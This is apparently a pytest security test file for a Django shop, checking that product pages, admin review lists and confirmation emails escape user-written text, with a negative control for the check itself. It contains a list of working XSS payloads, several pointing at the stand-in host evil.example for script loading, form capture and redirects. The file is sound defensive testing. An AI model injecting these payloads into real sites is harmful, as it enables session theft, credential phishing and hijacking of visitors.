"""What buyers and merchants write is shown, and nothing of it runs: each payload is submitted, and the page that comes
back is parsed. Whatever stands there beyond the page as it is with harmless words must be one of the tags allowed.
"""

from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client
from rest_framework.test import APIClient

from accounts.models import User
from orders import mail
from shop.markup import TAGS, shaped
from shop.models import Product
from tests.factories import office_of
from tests.fakes import FakeGateway
from tests.orders.purchases import ordered

pytestmark = pytest.mark.roadmap("security/xss")
Api = Callable[..., APIClient]
REVIEWS = "/admin/shop/review/"
PAYLOADS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "<a href='javascript:alert(1)'>a</a>", "<a href='java\tscript:alert(1)'>a</a>", "<p onclick=alert(1)>a</p>",
    "<p style='background:url(javascript:alert(1))'>a</p>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><input name=password></form>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>1</script></template>",
    "</title></h1></p><script>alert(1)</script>", "\"><script>alert(1)</script>", "' autofocus onfocus='alert(1)",
    "</script><script>alert(1)</script>", "<!--<img src='--><script>alert(1)</script>'>",
    "<![CDATA[<script>1</script>]]>",
    "{{ 7|add:7 }}{% debug %}", "&lt;script&gt;alert(1)&lt;/script&gt;", "＜script＞alert(1)＜/script＞",
]  # fmt: skip


class Tags(HTMLParser):
    """Every tag of a page with its attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """One of them; what differs from answer to answer counts as the same."""
        varying = {"nonce", "value", "title", "href", "content"}
        self.found.append((tag, tuple((name, "" if name in varying else value) for name, value in attrs)))


def added(page: str, harmless: str) -> list[Any]:
    """What the page has that it would not have with harmless words."""
    more = Tags(page).found
    for tag in Tags(harmless).found:
        if tag in more:
            more.remove(tag)
    return more


@pytest.fixture
def thing(alice: User, gateway: FakeGateway) -> Product:
    bought: Product = ordered(alice, gateway).lines.get().product
    return bought


@pytest.mark.django_db
def test_page_of_a_product_runs_nothing_that_was_written(thing: Product, alice: User, carol: User, api: Api) -> None:
    place, keeper, buyer = f"/api/v2/products/{thing.slug}/", api(carol, "pwd", "otp"), api(alice)
    review = buyer.post(f"{place}reviews/", {"rating": 1, "text": "Harmless."}, format="json")["Location"]
    page, office = f"/products/{thing.slug}/", office_of(carol)
    harmless, listed = (client.get(at).content.decode() for client, at in ((Client(), page), (office, REVIEWS)))

    for payload in PAYLOADS:
        words = {"name": payload, "description": f"<em>{payload}</em>"}
        assert buyer.patch(review, {"text": payload}, format="json").status_code == 200
        assert keeper.patch(place, words, format="json", headers={"If-Match": "*"}).status_code == 200
        shown = Client().get(page).content.decode()

        assert set(added(shown, harmless)) <= {(tag, ()) for tag in TAGS}, payload
        if payload in PAYLOADS[::6]:  # its page is dear
            assert added(office.get(REVIEWS).content.decode(), listed) == [], payload


@pytest.mark.django_db
def test_letter_runs_nothing_that_was_written(alice: User, gateway: FakeGateway, mailoutbox: list[Any]) -> None:
    order = ordered(alice, gateway)
    mail.send_confirmation(order.pk)

    for payload in PAYLOADS:
        order.lines.update(name=payload)
        order.shipping_address["name"] = payload
        order.save(update_fields=["shipping_address"])
        mail.send_confirmation(order.pk)

    harmless, *shown = (letter.alternatives[0].content for letter in mailoutbox)
    assert len(shown) == len(PAYLOADS)
    assert [added(letter, harmless) for letter in shown] == [[]] * len(PAYLOADS)


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("<p>Of <strong>oak</strong></p><ul><li>a</li></ul>", "<p>Of <strong>oak</strong></p><ul><li>a</li></ul>"),
        ("5 < 6 & 7 > 6", "5 &lt; 6 &amp; 7 &gt; 6"),
        ("<p class=x id=y>Oak</p>", "<p>Oak</p>"),
        ("<a href='https://evil.example'>Oak</a>", "Oak"),
        ("<em>Oak", "<em>Oak</em>"),
        ("<script>alert(1)</script>Oak", "Oak"),
    ],
)  # fmt: skip
def test_description_keeps_its_shape_and_nothing_else(typed: str, shown: str) -> None:
    assert shaped(typed) == shown


def test_without_escaping_the_test_would_see_it() -> None:
    """The negative control: payloads put into a page as they are add what is not allowed."""
    seen = [payload for payload in PAYLOADS if added(f"<p>{payload}</p>", "<p></p>")]

    assert len(seen) >= 24
